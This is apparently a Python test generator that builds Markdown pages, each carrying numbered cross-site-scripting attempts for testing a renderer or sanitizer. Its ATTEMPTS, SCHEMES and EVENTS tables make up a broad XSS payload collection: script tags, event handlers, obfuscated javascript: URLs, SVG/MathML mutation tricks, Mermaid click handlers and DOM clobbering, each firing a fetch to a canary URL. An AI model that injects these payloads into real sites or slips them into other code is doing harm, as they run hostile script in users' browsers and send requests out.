"""Markdown that tries to run a script, each attempt with a number of its own, in every place that a page has."""

from __future__ import annotations

import random

EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onwheel")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&#58;", " javascript:", "\x01javascript:", "vbscript:", "data:text/html,<script>{js}</script>#")
ATTEMPTS = (
    "<script>{js}</script>", "<SCRIPT SRC='{canary}'></SCRIPT>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script\n>{js}</script >", "<script/x>{js}</script>",
    '<img src=x {event}="{js}">', "<img src=x {event}={js}>", "<img/src=x/{event}={js}>", '<img src="x`{event}={js}">', '<img src="{canary}">', "![i]({canary})", "<image href={canary} {event}={js}>",
    '<svg {event}="{js}"><script>{js}</script><a xlink:href="{scheme}{js}"><text>a</text></a><animate {event}="{js}" attributeName=x dur=1s></svg>',
    "<svg><style><img src=x {event}={js}></style></svg>", '<math href="{scheme}{js}"><mtext><table><mglyph><style><img src=x {event}="{js}">', "<math><annotation-xml encoding=text/html><img src=x {event}={js}>",
    "[a]({scheme}{js})", "[a](<{scheme}{js}>)", "<{scheme}{js}>", '<a href="{scheme}{js}">a</a>', "[a][r{n}]\n\n[r{n}]: {scheme}{js}\n", '[a](x "t" {event}={js})', '[a](x" {event}="{js})', '![a](x" {event}="{js})', '![a" {event}="{js}](x)',
    '<iframe src="{scheme}{js}" srcdoc="<script>parent.{js}</script>"></iframe>', '<object data="data:text/html,<script>parent.{js}</script>"></object>', '<embed src="{scheme}{js}">', "<frameset {event}={js}><frame src='{scheme}{js}'>",
    '<form action="{scheme}{js}"><button formaction="{scheme}{js}">b</button><input autofocus {event}="{js}"></form>', '<base href="{canary}">', '<meta http-equiv="refresh" content="0;url={canary}">', '<link rel=stylesheet href="{canary}">', "<style>@import '{canary}';</style>",
    '<p style="background:url({canary})" {event}="{js}">p</p>', '<p style="width:expression({js})">p</p>', "<details open {event}={js}><summary>s</summary></details>", "<video src={canary} {event}={js}><source {event}={js}></video>", "<audio src={canary} autoplay>", "<body {event}={js}>",
    '<noscript><p title="</noscript><img src=x {event}={js}>">', "<template><script>{js}</script></template>", "<!--><img src=x {event}={js}>-->", "<!-- --!><img src=x {event}={js}> -->", "<![CDATA[><img src=x {event}={js}>]]>", "<?xml ?><img src=x {event}={js}>",
    '```"><script>{js}</script>\ncode\n```\n', "```html {event}={js}\n<img src=x {event}={js}>\n```\n", "`<img src=x {event}={js}>`", "\n### H <img src=x {event}={js}> {{#i\"{event}={js}}}\n", "\n### H {{.c {event}={js}}}\n",
    "```mermaid\ngraph TD\n  A[\"<img src=x {event}='{js}'>\"] --> B\n  click A href \"{scheme}{js}\"\n```\n", "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD\n  A[\"<iframe src='{scheme}{js}'>\"]\n  click A call alert({n})\n```\n",
    "| a | b |\n| - | - |\n| <img src=x {event}={js}> | [a]({scheme}{js}) |\n", "[^f{n}]\n\n[^f{n}]: <img src=x {event}={js}>\n", "!!! note \"<img src=x {event}={js}>\"\n    [a]({scheme}{js})\n", "<xss id=x tabindex=1 {event}={js}>x</xss>", '<a id="theme" name="config" href="cid:{n}">clobber</a>',
)  # fmt: skip
PLACES = ("{}", "> {}", "- {}", "1. {}", "**{}**", "*a {} b*", "text {} text", "\n\n{}\n\n", "<div>{}</div>", "<p>{}", "<table><td>{}", "[{}](x)", "`` {} ``", "~~{}~~", "\\{}", "&lt;{}")


def page(dice: random.Random, first: int, count: int, canary: str) -> str:
    """Return a page with so many attempts, numbered from `first`."""
    parts = [f"# Page of {first}\n"]
    for number in range(first, first + count):
        # neither blanks nor quotes, so that it is a script in every kind of attribute
        js = f"window.pwned={number};fetch(`{canary}{number}`)"
        attempt = ATTEMPTS[number % len(ATTEMPTS)] if dice.random() < 0.5 else dice.choice(ATTEMPTS)
        scheme = dice.choice(SCHEMES).replace("{js}", js)
        text = attempt.format(js=js, n=number, canary=f"{canary}{number}", event=dice.choice(EVENTS), scheme=scheme)
        parts.append((dice.choice(PLACES) if dice.random() < 0.5 else "{}").replace("{}", text))
    return "\n\n".join([*parts, "The end of the page.\n"])
